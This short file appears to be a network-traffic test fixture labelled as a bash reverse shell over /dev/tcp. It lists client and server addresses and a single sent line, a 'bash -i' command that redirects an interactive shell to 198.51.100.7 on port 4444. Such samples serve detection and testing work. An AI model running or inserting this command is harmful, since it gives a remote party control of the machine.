# reverse shell, bash over /dev/tcp.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
run bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n
